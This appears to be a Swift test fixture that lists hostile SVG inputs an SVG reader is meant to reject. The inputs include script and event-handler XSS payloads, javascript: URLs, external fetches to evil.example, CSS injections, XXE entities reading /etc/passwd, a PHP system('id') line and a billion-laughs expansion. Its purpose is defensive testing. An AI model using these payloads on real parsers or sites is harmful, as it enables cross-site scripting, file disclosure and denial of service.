@testable import Interchange

/// Drawings that were made to do harm, generated from what is known to have worked somewhere.
enum HostileDrawings {
  /// Elements that run, fetch or embed something.
  static let elements: [String] =
    [
      "<script>alert(1)</script>", "<script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>",
      "<script href=\"data:text/javascript,alert(1)\"/>", "<script xlink:href=\"https://evil.example/x.js\"/>",
      "<SCRIPT>alert(1)</SCRIPT>", "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script>",
      "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>",
      "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
      "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"/></foreignObject>",
      "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>",
      "<iframe src=\"https://evil.example/\"/>", "<embed src=\"x\"/>", "<object data=\"x\"/>", "<audio src=\"x\"/>",
      "<video src=\"x\" onerror=\"alert(1)\"/>", "<handler>alert(1)</handler>", "<listener/>",
      "<image href=\"https://evil.example/x.png\"/>", "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\"/>",
      "<feImage href=\"https://evil.example/x\"/>", "<filter id=\"f\"><feImage href=\"#x\"/></filter>",
      "<animate attributeName=\"href\" values=\"javascript:alert(1)\"/>",
      "<set attributeName=\"onload\" to=\"alert(1)\"/>",
      "<animateTransform/>", "<animateMotion/>", "<discard/>", "<mpath href=\"https://evil.example/#x\"/>",
      "<font-face><font-face-src><font-face-uri xlink:href=\"https://evil.example/f\"/></font-face-src></font-face>",
      "<cursor xlink:href=\"https://evil.example/c\"/>", "<link rel=\"stylesheet\" href=\"https://evil.example/\"/>",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/>", "<form><input/></form>",
      "<math><mi href=\"javascript:alert(1)\"/></math>",
      "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>",
      "<?xml-stylesheet href=\"https://evil.example/x.css\"?>", "<?php system('id'); ?>", "<!-- --><script/><!-- -->",
      "<title><script>alert(1)</script></title>", "<desc><image href=\"x\"/></desc>",
      "<tspan><script>alert(1)</script></tspan>", "<solidcolor/>", "<view/>", "<hatch/>",
      "<svg:svg xmlns:svg=\"urn:x\"/>",
    ]

  /// Attributes that run or fetch something.
  static let attributes: [String] =
    [
      "onload", "onclick", "onmouseover", "onfocus", "onbegin", "onend", "onrepeat", "onerror", "onwheel", "ONLOAD",
      "onanimationstart", "onpointerrawupdate", "formaction", "autofocus", "ping", "download", "srcdoc", "src",
    ].map { "\($0)=\"alert(1)\"" } + [
      "xml:base=\"https://evil.example/\"", "xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\"",
      "filter=\"url(https://evil.example/#f)\"", "cursor=\"url(https://evil.example/c),auto\"",
      "externalResourcesRequired=\"true\"", "systemLanguage=\"x\"", "requiredExtensions=\"https://evil.example/\"",
      "id=\"&quot;&gt;&lt;script&gt;\"", "viewBox=\"&quot; onload=&quot;alert(1)\"", "d=\"M0 0javascript:\"",
      "transform=\"url(https://evil.example/)\"", "transform=\"matrix(1) expression(alert(1))\"",
      "font-family=\"url(https://evil.example/f)\"", "font-family=\"x;}@import 'y'\"",
    ]

  /// Addresses that lead out or run something.
  static let addresses: [String] = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)",
    " javascript:alert(1)", "\tjavascript:alert(1)", "vbscript:x", "data:text/html,&lt;b>",
    "data:image/svg+xml;base64,PHN2Zy8+", "https://evil.example/x.svg#a", "//evil.example/x", "/office/sign-out",
    "other.svg#a", "file:///etc/passwd", "blob:https://x", "#a&quot; onload=&quot;alert(1)",
    "#javascript&#58;alert(1)(",
    "?x#a", "http:#a", "# a", "#",
  ]

  /// Values of style that fetch, run or break out.
  static let styles: [String] = [
    "fill:url(https://evil.example/x)", "fill:url('javascript:alert(1)')", "fill:url(\"data:image/svg+xml,x\")",
    "background:url(https://evil.example/)", "behavior:url(x.htc)", "-moz-binding:url(https://evil.example/x#y)",
    "fill:expression(alert(1))", "width:expression(alert(1))", "fill:\\75rl(https://evil.example/)",
    "f\\69ll:url(https://evil.example/)", "fill:/**/url(https://evil.example/)", "fill:u/**/rl(https://evil.example/)",
    "fill:image-set('https://evil.example/x')", "fill:var(--x)", "--x:url(https://evil.example/)",
    "fill:red}*{fill:url(x)",
    "cursor:url(https://evil.example/),auto", "mask:url(https://evil.example/#m)", "clip-path:url(//evil.example/#c)",
    "marker:url(https://evil.example/#m)", "filter:url(#f)", "src:url(https://evil.example/f)",
    "font:1px url(https://evil.example/)", "content:url(https://evil.example/)",
    "fill:url(#a) url(https://evil.example/)",
    "stroke:URL(HTTPS://EVIL.EXAMPLE/)", "fill:url( # )", "fill:attr(href)", "animation:x 1s", "transition:all 1s",
  ]

  private static let root = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">"

  /// Files of which no reader should let one through, one a line; `¤` stands for the root element, `␀1` for U+0001.
  private static let lines = #"""
    <!DOCTYPE svg>¤</svg>
    <!doctype svg>¤</svg>
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">¤</svg>
    <!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>¤<text>&x;</text></svg>
    <!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/">%x;]>¤</svg>
    ¤<text>&x;</text></svg>
    ¤<text>&nbsp;</text></svg>
    ¤<text>&#0;</text></svg>
    ¤<text>&#xD800;</text></svg>
    ¤<text>&#x110000;</text></svg>
    ¤<text>&#99999999999;</text></svg>
    ¤<text>&amp</text></svg>
    ¤<text>&#;</text></svg>
    ¤<text>&#x;</text></svg>
    ¤<text>&#-1;</text></svg>
    ¤<text>&#+65;</text></svg>
    ¤<![IGNORE[x]]></svg>
    ¤</svg><script/>
    ¤</svg>x
    x¤</svg>
    ¤<g></svg></g>
    ¤<g a="1" a="2"/></svg>
    ¤<g a='<'/></svg>
    ¤<g a=1/></svg>
    ¤<g a/></svg>
    ¤<g a="1"b="2"/></svg>
    ¤<x:g/></svg>
    ¤<g x:a="1"/></svg>
    ¤<:g/></svg>
    ¤<g:/></svg>
    ¤<a:b:c/></svg>
    ¤<g xmlns:xml="urn:x"/></svg>
    ¤<g xmlns:p=""/></svg>
    ¤< g/></svg>
    ¤<1/></svg>
    ¤␀1</svg>
    ¤<g a="␀2"/></svg>
    ¤<![CDATA[␀3]]></svg>
    <svg
    <
    <svg viewBox="0 0 1 1"
    ¤<!-- </svg>
    ¤<![CDATA[ </svg>
    <?xml version="1.0"
    ¤</svg
    <?xml version="1.0" encoding="Shift_JIS"?>¤</svg>
    <?xml version="1.0" encoding='UTF-7'?>¤</svg>
    <?xml version="1.0" encoding="UTF-16"?>¤</svg>
    ¤
    <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e9 1e9"/>
    <svg viewBox="0 0 -1 1"/>
    """#

  /// Files that are too much: expanding, deep, wide.
  private static let excessive: [String] = {
    let entities: [String] = (1...9).map { level in
      "<!ENTITY l\(level) \"" + String(repeating: "&l\(level - 1);", count: 10) + "\">"
    }
    let attributes: [String] = (0..<300).map { "a\($0)=\"1\"" }
    let laughs = "<!DOCTYPE svg [<!ENTITY l0 \"lol\">" + entities.joined() + "]>"
    return [
      laughs + root + "<text>&l9;</text></svg>",
      root + String(repeating: "<g>", count: 100_000),
      root + String(repeating: "<g>", count: 60) + String(repeating: "</g>", count: 60) + "</svg>",
      root + String(repeating: "<g/>", count: 60_000) + "</svg>",
      root + "<g " + attributes.joined(separator: " ") + "/></svg>",
    ]
  }()

  /// Whole files that no reader should let through.
  static let files: [[UInt8]] = {
    var files: [[UInt8]] = [[], [0x20]]
    for line in lines.split(separator: "\n") {
      var text = line.replacing("¤", with: root)
      for number in 1...3 { text = text.replacing("␀\(number)", with: String(UnicodeScalar(UInt8(number)))) }
      files.append(Array(text.utf8))
    }
    for text in excessive { files.append(Array(text.utf8)) }
    let whole = Array((root + "</svg>").utf8)
    let little: [UInt8] = [0xFF, 0xFE] + whole.flatMap { [$0, 0] }
    let big: [UInt8] = whole.flatMap { [0, $0] }
    files += [little, big, Array(root.utf8) + [0xC0, 0xBC] + Array("</svg>".utf8), Array(root.utf8) + [0xFF, 0xFE]]
    return files
  }()
}
